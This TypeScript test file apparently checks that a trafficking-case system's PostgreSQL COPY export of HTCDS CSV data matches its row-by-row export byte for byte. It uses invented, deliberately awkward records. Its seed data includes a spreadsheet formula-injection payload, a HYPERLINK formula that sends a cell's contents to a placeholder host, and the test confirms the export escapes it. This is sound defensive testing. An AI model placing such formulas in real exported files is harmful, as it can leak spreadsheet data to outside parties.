import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { HTCDS_EXPORT_COLUMNS } from '@dawn/core';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { postgresPoolOf } from '../../platform/db/database.ts';
import {
  createTestDatabase,
  testDatabaseKind,
  type TestDatabase,
} from '../../../test/test-database.ts';
import { formatBatch } from './export.format.ts';
import { exportRequestSchema, exportScope, writeExportFile } from './export.service.ts';
import { seedCasePersons, type CasePersonProfile } from './export.test-support.ts';
import { htcdsMappedQueries } from './htcds-copy.repository.ts';

const profile = (
  identified: Record<string, unknown> | null,
  overrides: Partial<CasePersonProfile> = {},
): CasePersonProfile => ({
  count: 1,
  sex: 'female',
  ageBand: '15-17',
  originCountry: 'BD',
  openedAt: '2025-03-04T09:00:00+05:30',
  identified,
  ...overrides,
});

const WELL_FORMED = {
  traffickingStatus: 'ActualVictimOfTrafficking',
  traffickingStatusDecidedBy: 'Police',
  methodsOfControl: ['TakesEarnings', 'DebtBondage', 'WithholdsDocuments'],
  typeOfExploitation: ['SexualExploitation', 'ForcedBegging'],
  locationOfExploitation: { district: 'Bench District', state: 'West Bengal', country: 'IN' },
  locationOfRecruitment: { district: 'Bench District', country: 'BD' },
  ageWhenTrafficked: 14,
};

// Issue 16: on PostgreSQL the HTCDS CSV is written by PostgreSQL (COPY, the mapping in SQL); the
// donor must get the same file, byte for byte, as the process's own mapping writes, whatever the
// data holds. Every value here is invented, and awkward on purpose.
describe(`the HTCDS CSV written by PostgreSQL is the row path's file (${testDatabaseKind()})`, () => {
  let database: TestDatabase;
  let organisationId: string;
  let directory: string;

  beforeAll(async () => {
    database = await createTestDatabase();
    directory = await mkdtemp(join(tmpdir(), 'dawn-export-copy-test-'));
    const db = database.db;
    const organisation = await db
      .insertInto('organisation')
      .values({
        name: 'Test Copy Export Trust',
        kind: 'ngo',
        district: 'Test',
        state: 'West Bengal',
        country: 'IN',
      })
      .returning('id')
      .executeTakeFirstOrThrow();
    organisationId = organisation.id;
    const seeded = await seedCasePersons(db, organisationId, [
      profile(WELL_FORMED),
      // Commas, quotes, line breaks, Bengali and Hindi in every kind of value.
      profile(
        {
          traffickingStatus: 'Possible, "maybe"',
          traffickingStatusDecidedBy: 'পুলিশ\r\nথানা',
          relationshipToTrafficker: 'परिचित, "दूर का"',
          forcedLabourIndustry: 'line\nbreak',
          methodsOfControl: ['Zeta', 'alpha', 'Beta, "quoted"', 'ঋণ', 'Beta, "quoted"'],
          typeOfExploitation: [''],
          typeOfSexExploitation: [],
          methodOfRecruitment: ['', 'Other'],
          recruitmentWebsitesAndApps: ['WhatsApp'],
          exploitationWebsitesAndApps: ['Telegram', 'Facebook'],
          locationOfExploitation: { state: 'পশ্চিমবঙ্গ, "WB"', country: 'IN' },
          locationOfRecruitment: { state: '', country: '' },
          ageWhenTrafficked: 0,
        },
        { sex: 'transgender', ageBand: '0-11', originCountry: 'NP' },
      ),
      profile({ locationOfRecruitment: { state: 'Khulna' } }, { sex: 'male', ageBand: '35+' }),
      // Text a spreadsheet would run as a formula, beside numbers and text that only look alike.
      profile({
        ...WELL_FORMED,
        traffickingStatus: '=HYPERLINK("http://example.invalid/?"&A2,"Open")',
        traffickingStatusDecidedBy: '+91 police',
        relationshipToTrafficker: '-3',
        forcedLabourIndustry: '@SUM(A1)',
        methodsOfControl: ['-x', 'Threats'],
        locationOfRecruitment: { state: '\tTabbed', country: 'IN' },
        locationOfExploitation: { state: '-2.5', country: '' },
        ageWhenTrafficked: -1,
      }),
      profile({}, { sex: 'other', originCountry: null }),
      // Not of the shape the mapping relies on: read as no rescue recorded, as the row path does.
      profile({ ...WELL_FORMED, methodsOfControl: 'DebtBondage' }, { sex: 'unknown' }),
      profile({ ...WELL_FORMED, typeOfExploitation: ['ForcedLabour', 3] }),
      profile({ ...WELL_FORMED, locationOfExploitation: 'Kolkata' }),
      profile({ ...WELL_FORMED, locationOfRecruitment: { state: 7, country: 'IN' } }),
      profile({ ...WELL_FORMED, traffickingStatus: null }),
      profile({ ...WELL_FORMED, ageWhenTrafficked: '14' }),
      profile({ ...WELL_FORMED, nested: { ignored: true }, forcedLabourIndustry: 'C_Mining' }),
      profile(null, { ageBand: '', openedAt: '2025-03-31T20:00:00Z' }),
      // 20:00 UTC on 31 January is 1 February in Kolkata
      profile(WELL_FORMED, { openedAt: '2025-01-31T20:00:00Z' }),
      profile(WELL_FORMED, { openedAt: '2019-12-31T18:29:59Z' }),
    ]);
    const [closed, followUp, emptyReason, bengaliReason] = seeded.caseIds;
    const setPhase = (id: string | undefined, phase: string, reason: string | null) =>
      sql`update care_case set phase = ${phase}, closure_reason = ${reason} where id = ${id ?? null}`.execute(
        db,
      );
    await setPhase(closed, 'closed', 'Moved, "safe"\r\nwith family');
    await setPhase(followUp, 'follow_up', 'not closed: not exported');
    await setPhase(emptyReason, 'closed', '');
    await setPhase(bengaliReason, 'closed', 'পরিবারের কাছে ফিরেছে');
    // A later rescue record of the first case: the latest is the one in effect.
    await db
      .insertInto('care_case_event')
      .values({
        case_id: seeded.caseIds[0] ?? '',
        type: 'rescue.identified',
        occurred_at: new Date('2025-03-05T09:00:00+05:30'),
        data: JSON.stringify({ ...WELL_FORMED, traffickingStatus: 'NotAVictimOfTrafficking' }),
      })
      .execute();
    // Victims on legal cases: one with a care case (and its rescue), one without.
    const legalCase = await db
      .insertInto('legal_case')
      .values({ organisation_id: organisationId, offences: ['ITPA s.5'] })
      .returning('id')
      .executeTakeFirstOrThrow();
    await db
      .insertInto('legal_case_party')
      .values([
        {
          legal_case_id: legalCase.id,
          ref: 'V1',
          role: 'victim',
          person_id: seeded.personIds[1] ?? '',
        },
        {
          legal_case_id: legalCase.id,
          ref: 'V2',
          role: 'victim',
          person_id: seeded.personIds[11] ?? '',
        },
      ])
      .execute();
    // Migrating a fresh database takes a while on a busy machine.
  }, 300_000);
  afterAll(async () => {
    await rm(directory, { recursive: true, force: true });
    await database.close();
  });

  const requests = [
    { dataset: 'htcds', format: 'csv' },
    { dataset: 'htcds', format: 'csv', from: '2025-02-01', to: '2025-03-31' },
  ];

  it("maps in SQL exactly as core does: the SQL's rows, formatted, are the row path's file", async () => {
    for (const body of requests) {
      const request = exportRequestSchema.parse(body);
      const rowPath = join(directory, 'rows.csv');
      await writeExportFile(database.db, request, organisationId, rowPath, undefined, {
        rowPath: true,
      });
      let mapped = formatBatch([], HTCDS_EXPORT_COLUMNS, 'csv', true);
      for (const query of htcdsMappedQueries(exportScope(request, organisationId))) {
        const { rows } = await query.execute(database.db);
        mapped += formatBatch(rows, HTCDS_EXPORT_COLUMNS, 'csv', false);
      }
      const expected = await readFile(rowPath, 'utf8');
      expect(mapped).toBe(expected);
      // Not an empty match: the awkward values are in it, quoted.
      expect(expected).toContain('"Beta, ""quoted"";Beta, ""quoted"";Zeta;alpha;ঋণ"');
      // And the formulas written as text, the numbers as numbers.
      if (!body.from) {
        expect(expected).toContain(
          `"'=HYPERLINK(""http://example.invalid/?""&A2,""Open"")",'+91 police,-3`,
        );
        expect(expected).toContain(`'@SUM(A1)`);
        expect(expected).toContain(`'-x;Threats`);
        expect(expected).toContain(`"'\tTabbed, IN"`);
      }
    }
  });

  // COPY exists on PostgreSQL only; on PGlite every export takes the row path compared above.
  it.runIf(testDatabaseKind() === 'postgres')(
    'PostgreSQL writes the same file through COPY, byte for byte, and the same row count',
    async () => {
      expect(postgresPoolOf(database.db)).toBeDefined();
      for (const body of requests) {
        const request = exportRequestSchema.parse(body);
        const rowPath = join(directory, 'rows.csv');
        const copyPath = join(directory, 'copy.csv');
        const byRows = await writeExportFile(
          database.db,
          request,
          organisationId,
          rowPath,
          undefined,
          {
            rowPath: true,
          },
        );
        const progress: number[] = [];
        const byCopy = await writeExportFile(
          database.db,
          request,
          organisationId,
          copyPath,
          (done) => progress.push(done),
        );
        expect(await readFile(copyPath)).toEqual(await readFile(rowPath));
        expect(byCopy).toEqual(byRows);
        expect(progress.at(-1)).toBe(byRows.rows);
      }
    },
  );
});
